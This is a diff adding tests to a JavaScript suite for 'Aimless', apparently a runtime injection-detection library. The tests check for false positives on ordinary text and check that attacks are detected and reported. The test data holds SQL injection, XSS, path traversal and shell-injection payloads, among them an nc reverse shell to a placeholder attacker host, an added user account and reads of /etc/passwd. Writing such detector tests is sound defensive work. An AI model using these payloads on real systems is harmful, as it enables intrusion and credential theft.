@@ -3,7 +3,7 @@
  * Ensures legitimate inputs don't trigger security alerts
  */
 
-const { Aimless } = require('./dist/index.js');
+const { Aimless, detectSQLFingerprint, fingerprintSQL, detectCommandInjection, detectXSS, normalizeInput, DETECTION_RULES, getDetectionRule } = require('./dist/index.js');
 
 let testsPassed = 0;
 let testsFailed = 0;
@@ -135,6 +135,77 @@ test('JSON data should not trigger NoSQL injection (single pattern match)', () =
   }
 });
 
+test('Prose with SQL keywords and punctuation should not trigger SQL injection', () => {
+  const inputs = [
+    'Select your size; then continue',
+    "It's fine; don't worry",
+    "O'Brien",
+    "Users' #1 choice",
+    'Delete from cart',
+    '1 + 1 = 2'
+  ];
+
+  for (const input of inputs) {
+    const result = aimless.validate(input).against(['sql']).result();
+    if (!result.safe) {
+      throw new Error(`False positive on "${input}": ${JSON.stringify(result.threats)}`);
+    }
+  }
+});
+
+test('Product descriptions should not trigger command injection', () => {
+  const inputs = [
+    'Cat food; find more (type B)',
+    'Books: Java; Python 3 guide',
+    'R&D team; net profit up',
+    'Save 10%; $5 off',
+    'Colors: red | blue | green',
+    'Raleigh; NC 27601',
+    'Gross & net income, net of tax',
+    'Snacks & more for cheap and/or free',
+    'See <b>bold</b> and <a href="/docs">docs</a>'
+  ];
+
+  for (const input of inputs) {
+    const result = aimless.validate(input).against(['command']).result();
+    if (!result.safe) {
+      throw new Error(`False positive on "${input}": ${JSON.stringify(result.threats)}`);
+    }
+  }
+});
+
+test('Markup without executable contexts should not trigger XSS', () => {
+  const inputs = [
+    '<b>hi</b>',
+    'He said "hello" and left',
+    "I'm online now",
+    '<textarea><script>alert(1)</script></textarea>',
+    'data:image/png;base64,iVBORw0KGgo='
+  ];
+
+  for (const input of inputs) {
+    const result = aimless.validate(input).against(['xss']).result();
+    if (!result.safe) {
+      throw new Error(`False positive on "${input}": ${JSON.stringify(result.threats)}`);
+    }
+  }
+});
+
+test('Encoded text should not trigger alerts once decoded', () => {
+  const inputs = [
+    'caf%C3%A9 au lait',
+    'Tom &amp; Jerry',
+    'Fish &amp; chips, 100%25 fresh'
+  ];
+
+  for (const input of inputs) {
+    const result = aimless.validate(input).against(['sql', 'xss', 'command']).result();
+    if (!result.safe) {
+      throw new Error(`False positive on "${input}": ${JSON.stringify(result.threats)}`);
+    }
+  }
+});
+
 // ============================================================================
 // TEST 2: Actual Threats SHOULD Trigger Alerts
 // ============================================================================
@@ -149,6 +220,58 @@ test('SQL injection should be detected', () => {
   }
 });
 
+test('Obfuscated SQL injection should be detected', () => {
+  const payloads = [
+    "'/**/OR/**/1=1#",
+    "' /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
+    "1 || 1=1",
+    "') OR ('1'='1",
+    "'; WAITFOR DELAY '0:0:5'--"
+  ];
+
+  for (const payload of payloads) {
+    const result = aimless.validate(payload).against(['sql']).result();
+    if (result.safe) {
+      throw new Error(`Failed to detect: ${payload}`);
+    }
+  }
+});
+
+test('Alphanumeric and word-like SQL injection should be detected', () => {
+  const payloads = [
+    '1 UNION SELECT 1',
+    '1 UNION ALL SELECT NULL,NULL',
+    '-1 UNION SELECT username, password FROM users',
+    '1 AND 1=1 ORDER BY 3'
+  ];
+
+  for (const payload of payloads) {
+    const result = aimless.validate(payload).against(['sql']).result();
+    if (result.safe) {
+      throw new Error(`Failed to detect: ${payload}`);
+    }
+    if (aimless.analyze({ method: 'GET', path: '/items', query: { id: payload } }).length === 0) {
+      throw new Error(`Request not flagged: ${payload}`);
+    }
+  }
+});
+
+test('SQL fingerprints should follow the input context', () => {
+  if (fingerprintSQL("' OR '1'='1", 'single-quote') !== 's&sos') {
+    throw new Error(`Unexpected fingerprint: ${fingerprintSQL("' OR '1'='1", 'single-quote')}`);
+  }
+
+  const union = detectSQLFingerprint('-1 UNION ALL SELECT NULL,NULL--');
+  if (!union || union.context !== 'bare' || union.attackType !== 'union') {
+    throw new Error(`Unexpected match: ${JSON.stringify(union)}`);
+  }
+
+  const comment = detectSQLFingerprint("admin'--");
+  if (!comment || comment.context !== 'single-quote' || comment.fingerprint !== 'sc') {
+    throw new Error(`Unexpected match: ${JSON.stringify(comment)}`);
+  }
+});
+
 test('XSS attacks should be detected', () => {
   const result = aimless.validate('<script>alert(1)</script>')
     .against(['xss'])
@@ -159,6 +282,72 @@ test('XSS attacks should be detected', () => {
   }
 });
 
+test('Tokenizer-based XSS detection should find executable contexts', () => {
+  const payloads = [
+    '<svg/onload=alert(1)>',
+    '<a href="java&#x73;cript&colon;alert(1)">x</a>',
+    '" onmouseover="alert(1)',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+    '<div style="width:expression(alert(1))">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
+  ];
+
+  for (const payload of payloads) {
+    const result = aimless.validate(payload).against(['xss']).result();
+    if (result.safe) {
+      throw new Error(`Failed to detect: ${payload}`);
+    }
+  }
+});
+
+test('XSS threats should report the tag and attribute', () => {
+  const [threat] = aimless.rasp.getXSSDetector().detect('<img src=x onerror=alert(1)>', 'query');
+  if (!threat || threat.metadata.tag !== 'img' || threat.metadata.attribute !== 'onerror' || threat.metadata.reason !== 'event-handler') {
+    throw new Error(`Unexpected threat: ${JSON.stringify(threat)}`);
+  }
+
+  const attribute = detectXSS('" onfocus="alert(1)" autofocus="');
+  if (!attribute || attribute.context !== 'double-quoted-attribute' || attribute.tag !== '' || attribute.attribute !== 'onfocus') {
+    throw new Error(`Unexpected attribute context match: ${JSON.stringify(attribute)}`);
+  }
+});
+
+test('Encoded payloads should be detected after normalization', () => {
+  const cases = [
+    ['%27%20OR%201%3D1--', 'sql_injection', ['url']],
+    ['&#39; OR 1=1--', 'sql_injection', ['html']],
+    ['%253Cscript%253Ealert(1)%253C/script%253E', 'xss', ['url']],
+    ['x;c\u200Bat /etc/passwd', 'command_injection', ['zero-width']]
+  ];
+
+  for (const [payload, type, transforms] of cases) {
+    const threat = aimless.rasp.analyzePayload({ q: payload }, 'query').find(t => t.type === type);
+    if (!threat) {
+      throw new Error(`Failed to detect: ${payload}`);
+    }
+    if (threat.payload !== payload || JSON.stringify(threat.metadata.normalization) !== JSON.stringify(transforms)) {
+      throw new Error(`Unexpected normalization for ${payload}: ${JSON.stringify(threat.metadata)}`);
+    }
+  }
+});
+
+test('Normalization should record each transform and respect the config', () => {
+  const steps = normalizeInput('%26%2339%3B OR 1=1');
+  const last = steps[steps.length - 1];
+  if (last.value !== "' OR 1=1" || last.transforms.join(',') !== 'url,html') {
+    throw new Error(`Unexpected normalization: ${JSON.stringify(steps)}`);
+  }
+
+  if (normalizeInput('%27', { transforms: ['html'] }).length !== 0 || normalizeInput('%27', { enabled: false }).length !== 0) {
+    throw new Error('Disabled transforms should not run');
+  }
+
+  const raw = new Aimless({ rasp: { normalization: { enabled: false } }, logging: { enabled: false } });
+  if (raw.rasp.detectInjections('%27%20OR%201%3D1--', 'unknown').length !== 0) {
+    throw new Error('Encoded payload detected with normalization disabled');
+  }
+});
+
 test('Command injection should be detected', () => {
   const result = aimless.validate('test; rm -rf /')
     .against(['command'])
@@ -169,6 +358,44 @@ test('Command injection should be detected', () => {
   }
 });
 
+test('Shell and cmd.exe command injection should be detected', () => {
+  const payloads = [
+    '$(whoami)',
+    "foo'; id; '",
+    'x;c\'\'at${IFS}/etc/passwd',
+    'x & w^hoami',
+    'x > /var/www/shell.php',
+    '1; sleep 5',
+    'x | nc attacker.com 4444 -e /bin/sh',
+    '& net user hacker P@ss /add',
+    'x && python3 exploit.py'
+  ];
+
+  for (const payload of payloads) {
+    const result = aimless.validate(payload).against(['command']).result();
+    if (result.safe) {
+      throw new Error(`Failed to detect: ${payload}`);
+    }
+  }
+});
+
+test('Command injection should report the construct and executable', () => {
+  const [threat] = aimless.rasp.detectInjections('ls -la; cat /etc/passwd', 'unknown')
+    .filter(t => t.type === 'command_injection');
+
+  if (!threat || threat.metadata.construct !== 'separator' || threat.metadata.executable !== 'cat') {
+    throw new Error(`Unexpected threat: ${JSON.stringify(threat)}`);
+  }
+  if (threat.metadata.matchCount !== 1 || threat.metadata.confidence !== `${threat.confidence}%`) {
+    throw new Error(`Unexpected confidence: ${JSON.stringify(threat.metadata)}`);
+  }
+
+  const cmd = detectCommandInjection('x & w^hoami');
+  if (!cmd || cmd.shell !== 'cmd' || cmd.executable !== 'whoami') {
+    throw new Error(`Unexpected cmd.exe match: ${JSON.stringify(cmd)}`);
+  }
+});
+
 test('Path traversal should be detected', () => {
   const result = aimless.validate('../../../../etc/passwd')
     .against(['path'])
@@ -265,6 +492,18 @@ test('High confidence threats should have confidence > 50%', () => {
   }
 });
 
+test('SQL injection confidence should come from the parsed structure', () => {
+  const union = aimless.rasp.detectInjections("' UNION SELECT password FROM users--", 'unknown')[0];
+  const probe = aimless.rasp.detectInjections("1' ORDER BY 3--", 'unknown')[0];
+
+  if (!union || union.confidence !== 100 || union.metadata.fingerprint !== 'sUEnk') {
+    throw new Error(`Unexpected UNION threat: ${JSON.stringify(union)}`);
+  }
+  if (!probe || probe.confidence >= union.confidence || probe.metadata.sqlAttack !== 'order-by') {
+    throw new Error(`Unexpected ORDER BY threat: ${JSON.stringify(probe)}`);
+  }
+});
+
 test('Single pattern match should have lower confidence', () => {
   // This would only match 1 pattern (the semicolon)
   const rasp = aimless.rasp;
@@ -276,6 +515,284 @@ test('Single pattern match should have lower confidence', () => {
   }
 });
 
+test('Browser headers, cookies and route values should not trigger alerts', () => {
+  const threats = aimless.analyze({
+    method: 'GET',
+    path: '/blog/2024/01/my-first-post',
+    headers: {
+      host: 'localhost:3000',
+      'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+      referer: 'https://www.google.com/search?q=shoes&oq=shoes&ie=UTF-8',
+      'x-forwarded-for': '203.0.113.5, 10.0.0.1',
+      forwarded: 'for=192.0.2.60;proto=http;by=203.0.113.43',
+      accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
+      cookie: '_ga=GA1.2.1234567890.1700000000; connect.sid=s%3AAbC123.xyz%2Fdef; prefs=%7B%22theme%22%3A%22dark%22%7D'
+    },
+    params: { year: '2024', slug: 'my-first-post' },
+    ip: '127.0.0.1'
+  });
+
+  if (threats.length > 0) {
+    throw new Error(`Flagged: ${threats.map(t => `${t.type} in ${t.metadata.location}`).join(', ')}`);
+  }
+});
+
+test('Threats in headers, cookies, path and params should report their location', () => {
+  const cases = [
+    [{ headers: { referer: 'https://example.com/?q=<script>alert(1)</script>' } }, 'xss', 'header.referer'],
+    [{ headers: { cookie: 'theme=dark; session_pref=%27%20OR%20%271%27%3D%271' } }, 'sql_injection', 'cookie.session_pref'],
+    [{ path: '/files/..%2f..%2fetc%2fpasswd' }, 'path_traversal', 'path[1]'],
+    [{ params: { id: '1; cat /etc/passwd' } }, 'command_injection', 'param.id']
+  ];
+
+  for (const [request, type, location] of cases) {
+    const threats = aimless.analyze({ method: 'GET', path: '/', headers: {}, ip: '127.0.0.1', ...request });
+    if (!threats.some(t => t.type === type && t.metadata.location === location)) {
+      throw new Error(`Expected ${type} in ${location}, got ${JSON.stringify(threats.map(t => [t.type, t.metadata.location]))}`);
+    }
+  }
+});
+
+test('Inspection targets and exclusions should be configurable', () => {
+  const request = {
+    method: 'GET',
+    path: '/',
+    headers: { 'x-note': "' OR 1=1--", cookie: "pref=' OR 1=1--" },
+    ip: '127.0.0.1'
+  };
+
+  const queryOnly = new Aimless({ rasp: { inspection: { targets: ['query', 'body'] } } });
+  const excluded = new Aimless({ rasp: { inspection: { excludeHeaders: ['x-*'], excludeCookies: ['pref'] } } });
+
+  if (queryOnly.analyze(request).length > 0 || excluded.analyze(request).length > 0) {
+    throw new Error('Excluded targets, headers and cookies should not be inspected');
+  }
+});
+
+test('Threats should carry the path of the field and whether a key or value matched', () => {
+  const threats = aimless.analyze({
+    method: 'POST',
+    path: '/orders',
+    headers: {},
+    ip: '127.0.0.1',
+    query: { 'sort by': "name' OR 1=1--" },
+    body: { items: [{}, {}, {}, { comment: '<img src=x onerror=alert(1)>' }], "' OR 1=1--": 'x' }
+  });
+  const found = threats.map(t => `${t.type} ${t.metadata.location} ${t.metadata.matchedOn}`);
+  const expected = [
+    'sql_injection query["sort by"] value',
+    'xss body.items[3].comment value',
+    `sql_injection body["' OR 1=1--"] key`
+  ];
+
+  for (const entry of expected) {
+    if (!found.includes(entry)) throw new Error(`Missing "${entry}" in ${JSON.stringify(found)}`);
+  }
+});
+
+test('Advanced threats should carry the path of the field they were found in', () => {
+  const threats = aimless.analyze({
+    method: 'POST',
+    path: '/profile',
+    headers: {},
+    ip: '127.0.0.1',
+    body: JSON.parse('{"name":"Ada","profile":{"bio":"{{config.items()}}"},"__proto__":{"isAdmin":true}}')
+  });
+  const found = threats.map(t => `${t.metadata.type} ${t.metadata.location} ${t.metadata.matchedOn}`);
+  const expected = [
+    'template_injection body.profile.bio value',
+    'prototype_pollution body.__proto__ key'
+  ];
+
+  for (const entry of expected) {
+    if (!found.includes(entry)) throw new Error(`Missing "${entry}" in ${JSON.stringify(found)}`);
+  }
+  if (threats.some(t => t.metadata.location === 'body')) throw new Error(`Body-wide threat: ${JSON.stringify(found)}`);
+});
+
+test('Threat logs should name the location', () => {
+  const logged = [];
+  const warn = console.warn;
+  console.warn = message => logged.push(message);
+  try {
+    new Aimless({ logging: { enabled: true } }).analyze({ method: 'GET', path: '/', headers: {}, ip: '127.0.0.1', query: { q: { id: "1' OR '1'='1" } } });
+  } finally {
+    console.warn = warn;
+  }
+
+  if (!logged.some(message => message.includes('Security threat detected in query.q.id'))) {
+    throw new Error(`Unexpected log: ${logged.join('\n')}`);
+  }
+});
+
+test('Threats should list the rule IDs that matched', () => {
+  const threats = aimless.analyze({
+    method: 'POST',
+    path: '/',
+    headers: {},
+    ip: '127.0.0.1',
+    query: { q: "' UNION SELECT password FROM users--", c: 'x; cat /etc/passwd', x: '<svg/onload=alert(1)>' },
+    body: { template: '{{config.items()}}' }
+  });
+  const rulesOf = location => (threats.find(t => t.metadata.location === location) || { metadata: {} }).metadata.rules;
+
+  if (String(rulesOf('query.q')) !== 'SQLI-002') throw new Error(`SQL rules: ${rulesOf('query.q')}`);
+  if (!threats.some(t => t.type === 'command_injection' && String(t.metadata.rules) === 'CMDI-001')) throw new Error('Missing CMDI-001');
+  if (String(rulesOf('query.x')) !== 'XSS-002') throw new Error(`XSS rules: ${rulesOf('query.x')}`);
+  if (!threats.some(t => t.metadata.type === 'template_injection' && t.metadata.rules.includes('SSTI-001'))) throw new Error('Missing SSTI-001');
+});
+
+test('Every detection rule should have a unique ID and its taxonomy', () => {
+  const ids = new Set(DETECTION_RULES.map(rule => rule.id));
+  if (ids.size !== DETECTION_RULES.length) throw new Error('Duplicate rule IDs');
+
+  for (const rule of DETECTION_RULES) {
+    if (!rule.name || !/^CWE-\d+$/.test(rule.cwe) || !/^A\d{2}:2021-/.test(rule.owasp) || ![1, 2, 3, 4].includes(rule.paranoiaLevel)) {
+      throw new Error(`Incomplete rule ${rule.id}`);
+    }
+  }
+
+  const rule = getDetectionRule('NOSQL-001');
+  if (!rule || rule.category !== 'nosql-injection' || rule.cwe !== 'CWE-943' || !rule.pattern.test('{"$where": "1"}')) {
+    throw new Error(`Unexpected NOSQL-001: ${JSON.stringify(rule)}`);
+  }
+});
+
+test('Rule exclusions should suppress matching threats and log each suppression', () => {
+  const tuned = new Aimless({
+    logging: { enabled: true, level: 'debug' },
+    rasp: {
+      exclusions: [
+        { path: '/api/articles/*', methods: ['POST'], locations: ['body.content'], rules: ['XSS-001', 'SQLI-002'] },
+        { locations: ['cookie.theme'], threatTypes: ['xss'] }
+      ]
+    }
+  });
+  const request = {
+    path: '/api/articles/42',
+    headers: { cookie: 'theme=<svg onload=alert(1)>' },
+    ip: '127.0.0.1',
+    body: { content: "<script>alert(1)</script> and ' UNION SELECT 1--", title: '<script>alert(1)</script>' }
+  };
+  const at = threats => threats.filter(t => t.type !== 'anomalous_behavior').map(t => `${t.type} ${t.metadata.location}`).sort();
+
+  const logged = [];
+  const { debug, warn } = console;
+  console.debug = message => logged.push(message);
+  console.warn = () => {};
+  let posted, put;
+  try {
+    posted = at(tuned.analyze({ ...request, method: 'POST' }));
+    put = at(tuned.analyze({ ...request, method: 'PUT' }));
+  } finally {
+    console.debug = debug;
+    console.warn = warn;
+  }
+
+  if (String(posted) !== 'xss body.title') throw new Error(`POST: ${JSON.stringify(posted)}`);
+  if (String(put) !== 'sql_injection body.content,xss body.content,xss body.title') throw new Error(`PUT: ${JSON.stringify(put)}`);
+  if (logged.filter(message => message.includes('Threat suppressed by exclusion')).length !== 4) {
+    throw new Error(`Unexpected debug log: ${logged.join('\n')}`);
+  }
+});
+
+test('Exclusion locations should match array indexes with a wildcard', () => {
+  const tuned = new Aimless({
+    logging: { enabled: false },
+    rasp: { exclusions: [{ locations: ['body.items[*].comment'], threatTypes: ['xss'] }] }
+  });
+  const analyze = body => tuned.analyze({ method: 'POST', path: '/orders', headers: {}, ip: '127.0.0.1', body })
+    .filter(t => t.type === 'xss')
+    .map(t => t.metadata.location);
+
+  const xss = '<img src=x onerror=alert(1)>';
+  const excluded = analyze({ items: [{ comment: xss }, { comment: xss }] });
+  if (excluded.length !== 0) throw new Error(`Not excluded: ${JSON.stringify(excluded)}`);
+
+  const kept = analyze({ items: [{ note: xss }] });
+  if (String(kept) !== 'body.items[0].note') throw new Error(`Kept: ${JSON.stringify(kept)}`);
+});
+
+test('Custom detectors should run in order on their targets and report like built-in ones', () => {
+  const calls = [];
+  const quantities = {
+    name: 'negative-quantity',
+    targets: ['body'],
+    detect: ctx => {
+      calls.push(`quantities ${Object.keys(ctx).sort()}`);
+      return (ctx.body.items || []).filter(item => item.quantity < 0).map(item => ({
+        type: 'anomalous_behavior',
+        severity: 'high',
+        description: 'Negative quantity',
+        payload: String(item.quantity),
+        timestamp: new Date(),
+        blocked: true,
+        metadata: { location: 'body.items.quantity', rules: ['BIZ-001'] }
+      }));
+    }
+  };
+  const first = { name: 'first', order: -1, targets: ['cookies'], detect: ctx => { calls.push(`first ${JSON.stringify(ctx.cookies)}`); return []; } };
+  const failing = { name: 'failing', order: 5, detect: () => { throw new Error('boom'); } };
+
+  const shop = new Aimless({ logging: { enabled: false }, rasp: { detectors: [quantities] } });
+  shop.registerDetector(failing).registerDetector(first);
+  const request = { method: 'POST', path: '/api/cart', ip: '127.0.0.1', headers: { cookie: 'cart=42' }, body: { items: [{ quantity: 2 }, { quantity: -3 }] } };
+  const threats = shop.analyze(request);
+
+  if (String(calls) !== 'first {"cart":"42"},quantities body,ip,method,path') throw new Error(`Calls: ${JSON.stringify(calls)}`);
+  if (threats.length !== 1 || threats[0].metadata.detector !== 'negative-quantity' || !shop.rasp.shouldBlock(threats, true)) {
+    throw new Error(`Threats: ${JSON.stringify(threats)}`);
+  }
+
+  const tuned = new Aimless({ logging: { enabled: false }, rasp: { detectors: [quantities], exclusions: [{ path: '/api/cart', rules: ['BIZ-001'] }] } });
+  if (tuned.analyze(request).length !== 0) throw new Error('Exclusion did not apply to a custom detector');
+
+  let duplicate = false;
+  try {
+    shop.registerDetector({ name: 'first', detect: () => [] });
+  } catch {
+    duplicate = true;
+  }
+  if (!duplicate) throw new Error('Duplicate detector name was accepted');
+});
+
+test('RASP instances built from one config should not share registered detectors', () => {
+  const { RASP, Logger } = require('./dist/index.js');
+  const logger = new Logger({ enabled: false });
+  const config = { detectors: [] };
+
+  const first = new RASP(config, logger);
+  first.registerDetector({ name: 'fraud-service', detect: () => [] });
+  const second = new RASP(config, logger);
+
+  if (config.detectors.length !== 0) throw new Error('registerDetector() changed the caller\'s config');
+  if (second.hasCustomDetectors()) throw new Error('Detector leaked into another instance');
+  second.registerDetector({ name: 'fraud-service', detect: () => [] });
+});
+
+test('Synchronous analysis should skip asynchronous detectors, without calling them, with a single warning', () => {
+  const aimless = new Aimless({ logging: { enabled: true, level: 'warn' } });
+  let calls = 0;
+  aimless.registerDetector({ name: 'fraud-service', detect: async () => { calls++; return []; } });
+  aimless.registerDetector({ name: 'ip-lookup', async: true, detect: () => { calls++; return Promise.resolve([]); } });
+
+  const warned = [];
+  const { warn } = console;
+  console.warn = message => warned.push(message);
+  try {
+    aimless.analyze({ method: 'GET', path: '/', ip: '127.0.0.1' });
+    aimless.analyze({ method: 'GET', path: '/', ip: '127.0.0.1' });
+    aimless.rasp.analyzePayload({ text: 'hello' }, 'websocket');
+  } finally {
+    console.warn = warn;
+  }
+
+  if (calls !== 0) throw new Error(`Asynchronous detectors were called ${calls} times`);
+  for (const name of ['fraud-service', 'ip-lookup']) {
+    if (warned.filter(message => message.includes(name)).length !== 1) throw new Error(`Warnings: ${warned.join('\n')}`);
+  }
+});
+
 // ============================================================================
 // RESULTS
 // ============================================================================